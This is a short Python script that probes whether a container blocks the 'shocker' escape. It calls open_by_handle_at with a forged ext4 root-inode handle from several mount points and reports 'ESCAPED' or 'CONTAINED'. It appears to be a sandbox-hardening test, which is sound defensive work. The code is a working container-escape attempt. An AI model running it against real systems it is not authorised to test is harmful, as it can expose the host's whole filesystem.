"""Opens the root directory of the file system below /usr by its inode number (the "shocker" exploit).

A file handle ignores mounts and paths: the host's whole disk hangs on it. Stopped by seccomp and by
having no CAP_DAC_READ_SEARCH.
"""
import ctypes
import errno
import os
import struct

OPEN_BY_HANDLE_AT = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
EXT4_ROOT = struct.pack("<IiII", 8, 1, 2, 0)  # 8 bytes of handle, type FILEID_INO32_GEN, inode 2
REFUSALS = ("EPERM", "EACCES", "ENOSYS")  # Any other answer means that the kernel took the call.
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Returns the result and, where it failed, the name of the errno."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    return result, errno.errorcode.get(ctypes.get_errno(), "unknown errno") if result < 0 else None


attempts = {}
for path in ("/", "/usr", "/session", "/etc/passwd"):
    try:
        mount = os.open(path, os.O_RDONLY)
    except FileNotFoundError:
        continue
    attempts[path] = syscall(OPEN_BY_HANDLE_AT, mount, ctypes.create_string_buffer(EXT4_ROOT), os.O_RDONLY)
holes = [f"{what}: {error or result}" for what, (result, error) in attempts.items() if error not in REFUSALS]
print(f"ESCAPED: {'; '.join(holes)}" if holes else f"CONTAINED: {sorted({e for _, e in attempts.values()})}")
